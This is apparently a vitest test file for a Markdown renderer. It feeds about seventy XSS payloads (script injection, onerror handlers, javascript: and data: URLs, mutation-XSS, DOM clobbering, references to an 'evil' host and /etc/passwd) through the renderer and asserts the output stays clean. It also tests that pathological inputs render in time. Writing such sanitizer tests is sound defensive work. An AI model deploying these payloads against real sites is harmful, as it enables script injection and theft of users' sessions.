import type { Root } from 'hast';
import rehypeRaw from 'rehype-raw';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { describe, expect, test } from 'vitest';
import { render } from './sample.ts';

const tags = new Set(
  `a abbr aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure
  h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby s samp section small span strike strong sub
  summary sup table tbody td tfoot th thead time tr tt u ul var wbr
  svg g path rect circle text tspan`.split(/\s+/),
);
const attributes = new Set(
  `id title lang dir href src alt width height align className role ariaLabel ariaDescribedBy tabIndex loading decoding
  referrerPolicy rel dataLanguage dataFootnoteRef dataFootnoteBackref dataFootnotes open start reversed type disabled
  checked colSpan rowSpan scope span dateTime
  viewBox d x y rx cx cy r fill stroke strokeWidth strokeDashArray`.split(/\s+/),
);

/** Parses the output as a browser does; gives every element, attribute and address that is not allowed. */
function harmIn(text: string): string[] {
  const harm: string[] = [];
  for (const dialect of ['mkdocs', 'gfm'] as const) {
    const { html } = render(text, dialect);
    const tree = unified()
      .use(rehypeRaw)
      .runSync({ type: 'root', children: [{ type: 'raw', value: html }] } as Root) as Root;
    visit(tree, (node) => {
      if (!['root', 'element', 'text'].includes(node.type)) harm.push(node.type);
      if (node.type !== 'element') return;
      if (!tags.has(node.tagName)) harm.push(`<${node.tagName}>`);
      for (const [name, value] of Object.entries(node.properties)) {
        const text = String(value);
        const address = name === 'href' || name === 'src';
        if (!attributes.has(name)) harm.push(`${name}=`);
        if (address && !/^(?:https?:\/\/|mailto:|tel:|#|cb:(?:\/|https?:\/\/))/.test(text)) harm.push(text);
        if (name === 'id' && text.startsWith('cb-')) harm.push(text);
      }
    });
  }
  return harm;
}

const payloads = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<ScRiPt src=//evil></ScRiPt>',
  '<script>\n\n</script>\n\n<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img src="javascript:alert(1)">',
  '<img src=data:image/svg+xml;base64,PHN2Zz4=>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe src="https://evil" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil/">',
  '<meta http-equiv="refresh" content="0;url=https://evil">',
  '<link rel="stylesheet" href="https://evil/x.css">',
  '<style>@import "https://evil";</style>',
  '<form action="https://evil"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="text" autofocus onfocus=alert(1)>',
  '<input type="image" src="https://evil/x.png">',
  '<textarea></textarea><script>alert(1)</script>',
  '<select><option></select><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java%0ascript:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x][y]\n\n[y]: javascript:alert(1) "t"',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](cb:/etc/passwd) ![x](cb:https://evil) <a href="cb:/x">y</a> <img src="CB:/x">',
  '[x](\\\\evil.com/x) [y](/\\evil.com) [z](//evil.com)',
  '[x](https:evil.com) [y](http:/\\evil.com)',
  '<a href="x" target="_blank" onclick="alert(1)" style="position:fixed;inset:0" class="btn" name="location">x</a>',
  '<img name="getElementById" id="cb-menu"><form id="cookie" name="body">',
  '<a id="x" id="y" name="__proto__"></a><p id="__proto__">p</p><p id="constructor">q</p>',
  '<p id="a b">x</p><p id="dup">x</p><p id="dup">y</p>',
  '# <img src=x onerror=alert(1)>\n\n## "><script>alert(1)</script>',
  '```"><script>alert(1)</script>\nx\n```',
  '``` title="</figcaption><script>alert(1)</script>"\n<script>alert(1)</script>\n```',
  '```js" onload="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '!!! note" onclick="alert(1) "<script>alert(1)</script>"\n    <script>alert(1)</script>',
  '!!! note "</p><img src=x onerror=alert(1)>"\n    x',
  '=== "<img src=x onerror=alert(1)>"\n    </section></div><script>alert(1)</script>',
  '<!--cb-block:0--><!--cb-block:0:end-->\n\n!!! note\n    x',
  ':::note[<img src=x onerror=alert(1)>]\n<script>alert(1)</script>\n:::',
  '> [!NOTE]\n> <script>alert(1)</script>',
  '| <script>alert(1)</script> |\n| --- |\n| [x](javascript:alert(1)) |',
  '<table><tr><td><caption><script>alert(1)</script>',
  '[^"><script>]\n\n[^"><script>]: <script>alert(1)</script>',
  '## x {#y onclick=alert(1)}\n\n![x](y.png){ onload=alert(1) width="1\'onload=x" src=javascript:x }',
  '<!-- --!> <script>alert(1)</script> -->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "<script>" ?>\n\n<!DOCTYPE html [<!ENTITY x "y">]>',
  '<xss contenteditable onbeforeinput=alert(1)>x</xss>',
  '<details ontoggle=alert(1) open><summary>x</summary></details>',
  '<video src=x onerror=alert(1)><source srcset=x></video><audio src=x></audio>',
  '<p><b id=1><b id=2>'.repeat(200),
  '\u202Ereversed\u0000nul\uFFFE',
];

test.for(payloads)('%j does no harm', (payload) => {
  expect(harmIn(payload)).toEqual([]);
  expect(harmIn(`- a\n\n  ${payload.replaceAll('\n', '\n  ')}\n`)).toEqual([]);
  expect(harmIn(`# h\n\n!!! note\n    ${payload.replaceAll('\n', '\n    ')}\n\nafter`)).toEqual([]);
});

describe('pathological input ends in time', () => {
  const inputs: Record<string, string> = {
    quotes: `${'>'.repeat(100_000)} a`,
    'spaced quotes': `${'> '.repeat(50_000)}a`,
    'lists in one line': `${'- '.repeat(50_000)}a`,
    'ordered lists in one line': `${'1. '.repeat(50_000)}a`,
    'nested lists': Array.from({ length: 1500 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
    emphasis: '*a _b '.repeat(30_000),
    stars: `${'*'.repeat(100_000)}a${'*'.repeat(100_000)}`,
    brackets: '['.repeat(100_000),
    'link openings': '[a]('.repeat(50_000),
    'image openings': `${'!['.repeat(50_000)}a`,
    backticks: Array.from({ length: 1000 }, (_, count) => '`'.repeat(count)).join(' '),
    'nested HTML': '<div>'.repeat(50_000),
    'open formatting': `${Array.from({ length: 2000 }, (_, id) => `<b id=${id}>`).join('')}\n\n${'<p>x\n\n'.repeat(5000)}`,
    'open formatting that hides behind closed': `</b>${'<b title=x><i></b>'.repeat(3000)}\n\n${'text\n\n'.repeat(3000)}`,
    'less-than signs': '<'.repeat(200_000),
    comments: '<!-- '.repeat(50_000),
    'equal headings': '# a\n'.repeat(20_000),
    'nested admonitions': Array.from({ length: 300 }, (_, depth) => `${'    '.repeat(depth)}!!! note`).join('\n'),
    'equal admonitions': '!!! note\n    x\n\n'.repeat(10_000),
    'indented admonitions': '        !!! note\n'.repeat(50_000),
    'unclosed containers': ':::note\n'.repeat(50_000),
    'nested containers': `${':::note\n'.repeat(300)}${':::\n'.repeat(300)}`,
    'attribute lists': `![a](b){ ${'a=b '.repeat(1000)}`.repeat(50),
    'a wide table': `${'|a'.repeat(500)}\n${'|-'.repeat(500)}\n${'|b\n'.repeat(150)}`,
    'a table of 10^10 cells': `${'|a'.repeat(100_000)}\n${'|-'.repeat(100_000)}\n${'|b\n'.repeat(100_000)}`,
    'a long link definition': `[a]: https://example.com/${'x'.repeat(500_000)}\n\n${'[a] '.repeat(100_000)}`,
    'links out of the repository': '[a](../../../../x)\n\n'.repeat(50_000),
    'long headings and tables': `# ${'x'.repeat(500_000)}\n\n${'|a|\n|-|\n\n'.repeat(20_000)}`,
    footnotes: `${'[^1]'.repeat(5000)}\n\n[^1]: a`,
    'a long line of code': `\`\`\`js\n${'a=>'.repeat(100_000)}\n\`\`\``,
    'front matter without end': `---\n${'a: b\n'.repeat(100_000)}`,
    'front matter rules': '---\n'.repeat(30_000),
  };
  test.for(Object.keys(inputs))('%s', { timeout: 20_000 }, (name) => {
    const started = process.cpuUsage();
    const { html } = render(inputs[name] ?? '');
    const { user, system } = process.cpuUsage(started);
    expect((user + system) / 1e6).toBeLessThan(5);
    expect(html.length).toBeLessThan(20_000_000);
  });
});
